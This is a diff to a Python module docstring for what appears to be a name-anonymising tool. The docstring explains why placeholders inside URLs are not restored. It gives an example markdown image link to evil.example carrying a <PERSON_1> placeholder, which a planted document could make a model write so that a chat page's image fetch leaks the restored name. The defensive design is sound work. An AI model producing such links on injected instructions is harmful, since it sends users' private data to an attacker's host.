@@ -2,9 +2,7 @@
 
 A chat page fetches images, and previews fetch links. A document can make the model write
 ``![x](https://evil.example/?q=<PERSON_1>)``, and a restored name would reach that host. So placeholders in an address
-stay, unless the caller allowed the host by name. A caller's address with an entity is hidden as a whole, and restored.
-
-All functions take time linear in the text.
+stay, unless the caller allowed the host. All functions take time linear in the text.
 """
 
 from __future__ import annotations
